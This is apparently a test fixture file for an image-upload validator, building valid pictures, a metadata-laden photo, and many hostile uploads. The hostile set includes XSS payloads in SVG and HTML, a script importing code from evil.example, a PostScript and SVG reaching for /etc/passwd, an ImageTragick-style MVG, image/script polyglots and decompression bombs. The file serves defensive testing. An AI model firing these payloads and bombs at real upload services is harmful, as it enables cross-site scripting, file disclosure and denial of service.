import { deflateSync } from "node:zlib";
import sharp from "sharp";

const canvas = { width: 640, height: 480, channels: 3, background: "#b3121d" } as const;
const secret = "Salmiya block 10";

/** A photograph as a phone takes it: with location, owner's name and a rotation by 90 degrees. */
export const photograph = () =>
	sharp({ create: canvas })
		.composite([
			{ input: { create: { ...canvas, width: 320, background: "#ffffff" } }, left: 0, top: 0 },
		])
		.withExif({
			IFD0: { Copyright: secret, Artist: secret, ImageDescription: secret },
			IFD3: {
				GPSLatitudeRef: "N",
				GPSLatitude: "29/1 20/1 0/1",
				GPSLongitudeRef: "E",
				GPSLongitude: "48/1 4/1 0/1",
			},
		})
		.withMetadata({ orientation: 6 })
		.withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${secret}</x:xmpmeta>`)
		.jpeg()
		.toBuffer();
export const photographsSecret = secret;

const plain = () => sharp({ create: canvas });

/** Valid pictures of every accepted kind. */
export const goodPictures: Record<string, () => Promise<Buffer>> = {
	jpeg: () => plain().jpeg().toBuffer(),
	"progressive jpeg": () => plain().jpeg({ progressive: true }).toBuffer(),
	png: () => plain().png().toBuffer(),
	"png with transparency": () =>
		sharp({ create: { ...canvas, channels: 4 } })
			.png()
			.toBuffer(),
	"grey png": () => plain().greyscale().png().toBuffer(),
	webp: () => plain().webp().toBuffer(),
	avif: () => plain().avif({ effort: 0 }).toBuffer(),
	"a single pixel": () =>
		sharp({ create: { ...canvas, width: 1, height: 1 } })
			.png()
			.toBuffer(),
	"49 megapixels": async () => greyPng(7_000, 7_000),
};

const script = "<script>alert(document.domain)</script>";
const bytes = (...parts: (string | Uint8Array | number[])[]) =>
	Buffer.concat(
		parts.map((part) => (typeof part === "string" ? Buffer.from(part) : Buffer.from(part))),
	);

const pngHead = bytes([0x89], "PNG\r\n", [0x1a], "\n");

function chunk(name: string, data: Uint8Array) {
	const length = Buffer.alloc(4);
	length.writeUInt32BE(data.length);
	const check = Buffer.alloc(4);
	check.writeUInt32BE(crc(bytes(name, data)));
	return bytes(length, name, data, check);
}

function crc(data: Uint8Array): number {
	let value = 0xffffffff;
	for (const byte of data) {
		value ^= byte;
		for (let bit = 0; bit < 8; bit++) value = (value >>> 1) ^ (value & 1 ? 0xedb88320 : 0);
	}
	return (value ^ 0xffffffff) >>> 0;
}

/**
 * A picture of one colour: a small file, whatever its size in pixels. With too few rows it is
 * invalid.
 */
function greyPng(width: number, height: number, rows = height) {
	const head = Buffer.alloc(13);
	head.writeUInt32BE(width, 0);
	head.writeUInt32BE(height, 4);
	head.set([1, 0, 0, 0, 0], 8);
	const data = deflateSync(Buffer.alloc(rows * (Math.ceil(width / 8) + 1)));
	return bytes(pngHead, chunk("IHDR", head), chunk("IDAT", data), chunk("IEND", new Uint8Array()));
}

const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="file:///etc/passwd"/>${script}</svg>`;
const jpegStart = [0xff, 0xd8, 0xff, 0xe0];
const riff = (kind: string, rest: string) => bytes("RIFF", [0x40, 0, 0, 0], kind, rest);

/** Uploads that are not pictures, or not of an accepted kind. */
export const hostilePictures: Record<string, () => Promise<Buffer> | Buffer> = {
	"an SVG": () => bytes(svg),
	"an SVG with a declaration": () => bytes(`<?xml version="1.0"?>${svg}`),
	"an SVG after a mark": () => bytes([0xef, 0xbb, 0xbf], svg),
	"a compressed SVG": async () => (await import("node:zlib")).gzipSync(svg),
	HTML: () => bytes(`<!doctype html>${script}`),
	"a script": () => bytes("import('//evil.example')"),
	"a shell script": () => bytes("#!/bin/sh\nid\n"),
	"a PDF": () => bytes("%PDF-1.7\n%âãÏÓ\n"),
	"a ZIP": () => bytes("PK", [3, 4], "word/document.xml"),
	"an ELF": () => bytes([0x7f], "ELF", new Uint8Array(60)),
	"a GIF": () => plain().gif().toBuffer(),
	"a TIFF": () => plain().tiff().toBuffer(),
	"a GIF that is a script": () => bytes("GIF89a/*", new Uint8Array(20), "*/=1;alert(1)"),
	"a BMP": () => bytes("BM", new Uint8Array(60)),
	"an icon": () => bytes([0, 0, 1, 0, 1, 0], new Uint8Array(40)),
	"a PSD": () => bytes("8BPS", new Uint8Array(40)),
	"a PostScript": () => bytes("%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file"),
	"an MVG": () =>
		bytes("push graphic-context\nimage over 0,0 0,0 'msl:/tmp/x'\npop graphic-context"),
	"a HEIC": () => bytes([0, 0, 0, 0x18], "ftypheic", new Uint8Array(64)),
	"a film": () => bytes([0, 0, 0, 0x18], "ftypmp42", new Uint8Array(64)),
	nothing: () => bytes([0]),
	zeros: () => Buffer.alloc(1_000),
	noise: () => bytes(Array.from({ length: 2_000 }, (_, at) => (at * 7919) % 256)),
	"only a JPEG's first bytes": () => bytes(jpegStart),
	"a JPEG's first bytes before HTML": () => bytes(jpegStart, script),
	"a JPEG's first bytes before an SVG": () => bytes(jpegStart, svg),
	"a PNG's first bytes": () => pngHead,
	"a PNG's first bytes before HTML": () => bytes(pngHead, script),
	"a name of PNG in the wrong place": () => bytes("xPNG", script),
	"a WebP's first bytes": () => riff("WEBP", "VP8 "),
	"a WebP's first bytes before HTML": () => riff("WEBP", script),
	"a WAVE that is no WebP": () => riff("WAVE", "fmt "),
	"an AVIF's first bytes": () => bytes([0, 0, 0, 0x1c], "ftypavif", new Uint8Array(64)),
	"an AVIF's first bytes before HTML": () => bytes([0, 0, 0, 0x1c], "ftypavif", script),
	"half a JPEG": async () => half(await goodPictures.jpeg()),
	"half a PNG": async () => half(await noisy().png().toBuffer()),
	"half a WebP": async () => half(await noisy().webp().toBuffer()),
	"half an AVIF": async () => half(await goodPictures.avif()),
	"a JPEG without its end": async () => (await noisy().jpeg().toBuffer()).subarray(0, -600),
	"a PNG with a wrong checksum": async () => spoil(await goodPictures.png()),
	"a PNG without rows": () => greyPng(100, 100, 0),
	"a PNG without width": () => greyPng(0, 100),
	"a bomb of 10 gigapixels": () => greyPng(100_000, 100_000, 0),
	"a bomb of 400 megapixels": () => greyPng(20_000, 20_000),
	"a bomb as wide as can be": () => greyPng(0x7fffffff, 1, 0),
	"a bomb as wide and high as can be": () => greyPng(0x7fffffff, 0x7fffffff, 0),
	"a JPEG of 65,000 by 65,000": async () => enlarge(await goodPictures.jpeg()),
	"64 megapixels": () => greyPng(8_000, 8_000),
};

const noisy = () =>
	sharp({ create: { ...canvas, noise: { type: "gaussian", mean: 128, sigma: 60 } } });
const half = (whole: Buffer) => whole.subarray(0, Math.floor(whole.length / 2));

function spoil(whole: Buffer) {
	const spoilt = Buffer.from(whole);
	spoilt[spoilt.indexOf("IDAT") + 12] ^= 0xff;
	return spoilt;
}

/** Declares the maximum size of a JPEG in its frame header. */
function enlarge(whole: Buffer) {
	const frame = whole.indexOf(Buffer.from([0xff, 0xc0]));
	const larger = Buffer.from(whole);
	larger.writeUInt16BE(65_000, frame + 5);
	larger.writeUInt16BE(65_000, frame + 7);
	return larger;
}

/** Files that are a picture and something else too; only the picture may be stored. */
export const doublePictures: Record<string, () => Promise<Buffer>> = {
	"a JPEG with HTML behind it": async () => bytes(await goodPictures.jpeg(), script),
	"a JPEG with a ZIP behind it": async () => bytes(await goodPictures.jpeg(), "PK", [3, 4], script),
	"a PNG with HTML behind it": async () => bytes(await goodPictures.png(), script),
	"a PNG with HTML in a comment": async () => {
		const png = await goodPictures.png();
		return bytes(
			png.subarray(0, 33),
			chunk("tEXt", bytes("Comment", [0], script)),
			png.subarray(33),
		);
	},
	"a JPEG with HTML in a comment": async () => {
		const jpeg = await goodPictures.jpeg();
		const length = script.length + 2;
		return bytes(
			jpeg.subarray(0, 2),
			[0xff, 0xfe, length >> 8, length & 255],
			script,
			jpeg.subarray(2),
		);
	},
};
export const doublesSecret = script;
